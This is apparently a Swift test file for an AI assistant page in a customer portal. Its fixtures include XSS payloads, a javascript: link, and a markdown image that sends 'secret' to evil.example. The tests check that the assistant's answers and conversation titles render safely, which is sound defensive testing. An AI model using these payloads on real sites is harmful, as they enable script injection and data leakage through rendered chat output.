import Access
import Concierge
import TestSupport
import Testing
import Tools

@testable import PortalWeb

private let anna = "anna@marigold.example"
private let david = "david@marigold.example"
private let elena = "elena@marigold.example"

@Suite struct NexiePageTests {
    private static let notes: [(name: String, says: [String], not: [String])] = [
        ("guide", ["The guide answers here: automatic, without AI."], ["is an AI"]),
        ("claude", ["Nexie is an AI (claude): it can be wrong."], ["The guide"]),
    ]

    @Test(arguments: notes)
    func `a person reads who answers and how to reach a person`(
        note: (name: String, says: [String], not: [String])
    ) async throws {
        try await TestPortal.chatting([], as: note.name) { portal, _ in
            expect(
                try await portal.browser(david).get("/portal/nexie"),
                says: note.says + ["call +49 30 23125 100", "help@larkfield.example", "Your message to Nexie"],
                not: note.not + ["not set up"])
        }
    }

    @Test(arguments: [(david, true), (elena, false)])
    func `where nobody answers, a person is led to a ticket if they may open one`(
        who: String, mayOpen: Bool
    ) async throws {
        try await TestPortal.with(model: nil) { portal in
            let page = try await portal.browser(who).get("/portal/nexie")
            expect(page, says: ["Nexie is not set up here yet", "+49 30 23125 100"], not: ["<textarea", "openers"])
            #expect(page.links.contains("/portal/tickets/new") == mayOpen)
        }
    }

    @Test(arguments: [
        (anna, ["What is waiting for me?", "What is happening with ticket", "Which invoices are overdue?"], []),
        (david, ["What is happening with ticket", "How do I reset my password?"], ["invoices are overdue"]),
    ])
    func `a new talk opens with questions that this person's tools answer`(
        who: String, says: [String], not: [String]
    ) async throws {
        try await TestPortal.chatting([]) { portal, _ in
            expect(try await portal.browser(who).get("/portal/nexie"), says: says, not: not)
        }
    }

    @Test func `an opener is sent like a message`() async throws {
        try await TestPortal.chatting([.says("Nothing.")]) { portal, _ in
            let browser = try await portal.browser(anna)
            let sent = try await browser.say("What is waiting for me?")
            let page = try await browser.get("/portal/nexie?conversation=\(sent.conversation)")
            expect(page, says: ["What is waiting for me?", "Nothing."], not: ["openers", "Which tickets are open?"])
        }
    }

    @Test func `earlier conversations are a person's own, the latest first`() async throws {
        try await TestPortal.chatting([.says("A"), .says("B"), .says("C")]) { portal, _ in
            let browser = try await portal.browser(david)
            let first = try await browser.say("About the <lamp>").conversation
            portal.house.clock.advance(seconds: 60)
            let second = try await browser.say("About the kettle").conversation
            _ = try await portal.browser(anna).say("Anna's secret")
            let page = try await browser.get("/portal/nexie")
            expect(page, says: ["Earlier conversations", "About the &lt;lamp&gt;", "About the kettle"], not: ["Anna"])
            let links = page.links.filter { $0.contains("conversation=") }
            #expect(links.map { $0.contains(second) } == [true, false] && links.last?.contains(first) == true)
        }
    }

    private static let hostile = """
        ![chart](https://evil.example/x.png?q=secret) <img src=x onerror=alert(1)> <script>alert(1)</script>

        [pay](https://pay.larkfield.example/x) [go](javascript:alert(1)) [out](https://evil.example/)

        [in](/portal/tickets) [login](/portal/login/link?token=abc) <https://evil.example/auto> &lt;b&gt;

        # Big
        """

    @Test func `an answer makes no image, no outside link and no markup of its own`() async throws {
        try await TestPortal.chatting([.says(Self.hostile)]) { portal, _ in
            let browser = try await portal.browser(david)
            let sent = try await browser.say("Hello")
            let page = try await browser.get("/portal/nexie?conversation=\(sent.conversation)")
            expect(
                page,
                says: [#"<a href="/portal/tickets">in</a>"#, "&lt;img src=x", "&lt;script&gt;", "<h3>Big</h3>"],
                not: ["<img", "<script>", #"href="https:"#, #"href="javascript"#, #"href="/portal/login"#, "<h1>Big"])
            #expect(page.links.allSatisfy { $0.hasPrefix("/portal") })
        }
    }

    @Test func `a title that looks like markup is shown as it was typed`() async throws {
        try await TestPortal.chatting([.says("Yes.")]) { portal, _ in
            let browser = try await portal.browser(david)
            let sent = try await browser.say("<svg onload=alert(1)> ![a](b)")
            let page = try await browser.get("/portal/nexie?conversation=\(sent.conversation)")
            expect(page, says: ["<h1>&lt;svg onload=alert(1)&gt; ![a](b)</h1>"], not: ["<svg onload", "<img"])
        }
    }

    @Test func `what Nexie looked at stands in the server's words, with the records as links`() async throws {
        let script = [
            ScriptedModel.Response.uses("get_ticket", #"{"number":1042}"#, id: "a"),
            .uses("delete_everything<b>", "{}", id: "b"), .says("Tom has it."),
        ]
        try await TestPortal.chatting(script) { portal, _ in
            let browser = try await portal.browser(david)
            let sent = try await browser.say("And 1042?")
            let page = try await browser.get("/portal/nexie?conversation=\(sent.conversation)")
            expect(
                page,
                says: ["tool-done", "Tried something that is not available", "Ticket 1042: Printer on floor 2"],
                not: ["delete_everything", "get_ticket"])
            #expect(page.links.contains("/portal/tickets/1042"))
        }
    }

    @Test(arguments: [(Int64(10), "may still be answering", "no answer"), (200, "no answer to this", "may still be")])
    func `a message without an answer says so`(seconds: Int64, says: String, not: String) async throws {
        try await TestPortal.chatting([]) { portal, _ in
            var input = KeepMessage.Input()
            input.title = "Lonely"
            input.content = #"{"text":"Is anybody there?","page":""}"#
            let kept = try await portal.house.runtime.call(
                KeepMessage.self, input, as: try await portal.house.principal(david), door: .talk)
            portal.house.clock.advance(seconds: seconds)
            expect(
                try await portal.browser(david).get("/portal/nexie?conversation=\(kept.conversation.text)"),
                says: ["Is anybody there?", says], not: [not])
        }
    }

    @Test func `a message that can't be read any more is shown as broken, not as its bytes`() async throws {
        try await TestPortal.chatting([]) { portal, _ in
            var input = KeepMessage.Input()
            input.author = .nexie
            input.content = "{broken <b>"
            let kept = try await portal.house.runtime.call(
                KeepMessage.self, input, as: try await portal.house.principal(david), door: .talk)
            expect(
                try await portal.browser(david).get("/portal/nexie?conversation=\(kept.conversation.text)"),
                says: ["This answer broke off."], not: ["{broken"])
        }
    }
}
